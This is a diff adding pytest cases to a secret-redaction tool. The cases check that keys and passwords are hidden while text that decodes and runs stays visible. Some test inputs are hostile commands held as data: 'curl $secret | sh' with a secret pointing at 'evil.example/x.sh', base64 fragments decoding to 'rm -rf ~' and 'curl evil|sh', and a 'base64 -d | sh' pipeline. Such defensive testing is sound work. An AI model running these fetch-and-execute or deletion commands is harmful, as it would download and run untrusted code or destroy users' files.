@@ -6,6 +6,8 @@ in sight.
 
 from __future__ import annotations
 
+import time
+
 import pytest
 from support import secret_examples as examples
 
@@ -145,8 +147,113 @@ def test_what_only_looks_like_a_secret_is_shown(text: str) -> None:
 
 def test_a_key_in_a_file_of_json_within_a_text_is_hidden() -> None:
     begin, end = "-----BEGIN " + "PRIVATE KEY-----", "-----END " + "PRIVATE KEY-----"
-    lines = "A" * 64 + "\\n" + "B" * 20 + "\\n"
+    lines = "MII" + "A" * 61 + "\\n" + "B" * 20 + "\\n"
 
     shown = redacted_text(f'{{"private_pem": "{begin}\\n{lines}{end}\\n"}}')
 
     assert shown == f'{{"private_pem": "{begin}\\n[redacted: {len(lines)} characters]{end}\\n"}}'
+
+
+RANDOM = "wJalrXUtnFEMI/K7MDENG/" + "bPxRfiCYEXAMPLEKEY"
+
+
+@pytest.mark.parametrize("decoder", examples.DECODERS)
+def test_what_only_looks_random_is_shown_where_it_is_decoded_and_may_run(decoder: str) -> None:
+    text = decoder.format(RANDOM)
+
+    assert redaction(text) == (text, 0)
+    apart = {"payload": RANDOM, "command": decoder.format("$X")}
+    assert redaction(apart) == (apart, 0)
+
+
+@pytest.mark.parametrize(
+    "text", ["echo {} | base64", "openssl req -days 3 # {}", "x.decode() {}", "encode {} -d"]
+)
+def test_what_looks_random_is_hidden_where_nothing_is_decoded(text: str) -> None:
+    assert redaction(text.format(RANDOM)).hidden == 1
+
+
+def a_key(*lines: str) -> str:
+    kind = "PRIVATE KEY-----"
+    return "\n".join(("-----BEGIN " + kind, *lines, "-----END " + kind))
+
+
+@pytest.mark.parametrize("first", examples.KEYS)
+def test_a_private_key_is_hidden_in_each_of_its_forms(first: str) -> None:
+    assert redaction(a_key(first, *["B" * 64] * 200, "C" * 20)).hidden == 1
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        a_key("cm0gLXJmIH4" + "A" * 53, "A" * 20),
+        a_key("Y3VybCBldmlsfHNo"),
+        a_key("MII" + "A" * 61, *["B" * 64] * 300),
+        "sed '1d;$d' <<E | base64 -d | sh\n" + a_key("MII" + "A" * 61, "B" * 20) + "\nE",
+    ],
+)
+def test_what_is_no_key_of_a_sane_size_is_shown_between_the_marks_of_one(text: str) -> None:
+    assert redaction(text) == (text, 0)
+
+
+@pytest.mark.parametrize("text", examples.RUNS)
+def test_what_is_assigned_to_the_name_of_a_secret_and_runs_is_shown(text: str) -> None:
+    assert redaction(text) == (text, 0)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "pass=hunter2; $pass -rf x",
+        "pass=hunter; psql -W $pass",
+        "PASSWORD=letmein; mysql -p$PASSWORD",
+        "TOKEN=letmein; curl -u bob:$TOKEN https://x.example",
+        "SECRET=aB3dE5gH7j.K9mN1pQ3; curl -H $SECRET x",
+        "other=rm; pass=letmein; $other -rf x",
+        "pass=letmein; echo '$passage'",
+    ],
+)
+def test_a_secret_is_hidden_where_it_does_not_run(text: str) -> None:
+    assert redaction(text).hidden == 1
+
+
+def test_what_runs_by_the_name_of_a_secret_among_the_arguments_is_shown() -> None:
+    value = {"env": {"secret": "evil.example/x.sh"}, "command": "curl $secret | sh"}
+
+    assert redaction(value) == (value, 0)
+    assert redaction({**value, "command": "ls"}).hidden == 1
+
+
+def test_under_an_object_only_what_is_named_as_a_secret_or_looks_random_is_hidden() -> None:
+    shown = {"action": "delete", "target": "prod-db-01", "n": 999_999, "all": True, "to": ["rm"]}
+    secrets = {"password": "letmein", "value": "s3cr3tV4lue", "keys": ["aB3dE5gH7jK9"], "otp": 7}
+
+    assert redaction({"auth": shown}) == ({"auth": shown}, 0)
+    assert redaction({"auth": {"deep": [{"deeper": shown}]}}).hidden == 0
+    assert redaction({"auth": secrets}).hidden == 4
+    assert redaction({"auth": {"deep": [{"deeper": secrets}]}}).hidden == 4
+
+
+@pytest.mark.parametrize("value", ["prod", "src/app", "/srv/app", "..", "my-project", "a.b"])
+def test_the_folder_that_one_is_in_is_shown(value: str) -> None:
+    assert redaction({"pwd": value, "PWD": value}).hidden == 0
+    assert redaction(f"PWD={value} make").hidden == 0
+
+
+@pytest.mark.parametrize(
+    ("name", "value"), [("pwd", "hunter2"), ("db_pwd", "prod"), ("pwd", "a!b")]
+)
+def test_a_password_that_is_called_pwd_is_hidden(name: str, value: str) -> None:
+    assert redaction({name: value}).hidden == 1
+    assert redaction(f"{name}={value} make").hidden == 1
+
+
+@pytest.mark.parametrize(
+    "hostile", ["base64 -", "openssl -", "$a ", "token=rm;$token ", "curl $a", "X=1 ", "sudo "]
+)
+def test_looking_for_what_runs_takes_time_in_proportion_to_the_text(hostile: str) -> None:
+    began = time.thread_time()
+    redaction(hostile * (200_000 // len(hostile)) + a_key("MII" + "A" * 61))
+
+    # A fifth of a second here; quadratic time would be minutes.
+    assert time.thread_time() - began < 4
